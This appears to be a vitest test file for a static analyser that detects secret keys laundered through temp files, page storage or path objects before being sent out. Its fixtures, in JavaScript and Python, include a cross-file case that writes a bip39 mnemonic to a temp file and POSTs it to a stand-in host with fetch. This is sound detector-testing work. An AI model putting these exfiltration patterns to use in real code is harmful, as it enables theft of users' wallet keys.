import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { type KeyProgram, keySentInJavaScript, keySentInPython } from './testing/keySent.ts';

const FS = `const fs = require('fs'), os = require('os'), path = require('path'); const P = path.join(os.tmpdir(), '.spool');`;
const JAVASCRIPT: readonly KeyProgram[] = [
  ['a file of one constant', FS, `fs.writeFileSync(P, k); send(fs.readFileSync(P))`, true],
  [
    'the same path, put together twice',
    FS,
    `fs.appendFileSync(path.join(os.tmpdir(), 'aa', 'bb'), k); send(fs.readFileSync(path.join(os.tmpdir(), 'aa/bb')))`,
    true,
  ],
  ['another file', FS, `fs.writeFileSync(P, k); send(fs.readFileSync(path.join(os.tmpdir(), 'other')))`, false],
  ['another folder', FS, `fs.writeFileSync(P, k); send(fs.readFileSync(path.join(os.homedir(), '.spool')))`, false],
  ['a file that is only read here', FS, `fs.writeFileSync(P, k); use(fs.readFileSync(P))`, false],
  ['a callback', FS, `fs.writeFile(P, k, () => fs.readFile(P, (e, text) => send(text)))`, true],
  [
    'promises',
    FS,
    `require('fs/promises').writeFile(P, k).then(async () => send(await fs.promises.readFile(P)))`,
    true,
  ],
  ['a stream', FS, `fs.createWriteStream(P).end(k); fs.createReadStream(P).on('data', (part) => send(part))`, true],
  [
    'a path that somebody gives',
    `${FS} function keep(p, x) { fs.writeFileSync(p, x) } function load(p) { return fs.readFileSync(p) }`,
    `keep('a', k); send(load('b'))`,
    false,
  ],
  [
    'one path in one function',
    FS,
    `const p = fs.mkdtempSync(os.tmpdir()); fs.writeFileSync(p, k); send(fs.readFileSync(p))`,
    true,
  ],
  ['a new path each time', FS, `fs.writeFileSync(fs.mkdtempSync(), k); send(fs.readFileSync(fs.mkdtempSync()))`, false],
  ['a page’s storage', '', `localStorage.setItem('last', k); send(localStorage.getItem('last'))`, true],
  ['another name in it', '', `localStorage.setItem('last', k); send(localStorage.getItem('first'))`, false],
];
const PY = `import os, json, tempfile, pathlib\nP = os.path.join(tempfile.gettempdir(), ".spool")\nQ = pathlib.Path.home() / ".spool"`;
const PYTHON: readonly KeyProgram[] = [
  ['a file', PY, `open(P, "a").write(k); send(open(P).read())`, true],
  ['another file', PY, `open(P, "a").write(k); send(open(P + "x").read())`, false],
  ['a path object', PY, `Q.write_text(k); send(Q.read_text())`, true],
  ['another path object', PY, `Q.write_text(k); send((pathlib.Path.home() / ".other").read_text())`, false],
  [
    'with',
    PY,
    `
    with open(P, "w") as f:
        f.write(k)
    with open(P, "rb") as f:
        send(f.read())`,
    true,
  ],
  [
    'what is only written',
    PY,
    `
    with open(P, "w") as f:
        f.write(k)
    with open(P, "w") as f:
        send(f)`,
    false,
  ],
];

describe('a file that the package reads again', () => {
  it.each(JAVASCRIPT)('%s', async (_, before, body, isSent) => {
    expect(await keySentInJavaScript(before, body)).toEqual(isSent ? ['high'] : []);
  });
  it.each(PYTHON)('Python: %s', async (_, before, body, isSent) => {
    expect(await keySentInPython(before, body)).toEqual(isSent ? ['high'] : []);
  });
  it('is a guess where one of many things that were written is sent', async () => {
    const body = `fs.writeFileSync(P, JSON.stringify({ k, url: 'x' })); send(JSON.parse(fs.readFileSync(P)).url)`;
    expect(await keySentInJavaScript(FS, body)).toEqual(['medium']);
    const python = `json.dump({"k": k, "url": "x"}, open(P, "w")); send(json.load(open(P))["url"])`;
    expect(await keySentInPython(PY, python)).toEqual(['medium']);
  });
  it('is found across files', async () => {
    const { flows } = await analyseSources({
      'place.js': `import { join } from 'node:path'; import { tmpdir } from 'node:os'; export const P = join(tmpdir(), '.spool');`,
      'a.js': `import { P } from './place.js'; import fs from 'node:fs'; import { mnemonicToSeed } from 'bip39'; export function f(k) { mnemonicToSeed(k); fs.writeFileSync(P, k) }`,
      'b.js': `import { P } from './place.js'; import fs from 'node:fs'; export const ship = () => fetch('https://example.invalid', { method: 'POST', body: fs.readFileSync(P) })`,
    });
    const sent = flows.find((one) => one.source === 'key' && one.sink === 'network');
    expect(sent?.confidence).toBe('high');
    expect(sent?.points.map(({ file, what }) => `${file}: ${what}`)).toMatchInlineSnapshot(`
      [
        "a.js: is the key (k) that npm:bip39.mnemonicToSeed takes",
        "a.js: is written by node:fs.writeFileSync() and read again",
        "b.js: is kept under body",
        "b.js: is sent by global:fetch",
      ]
    `);
  });
});
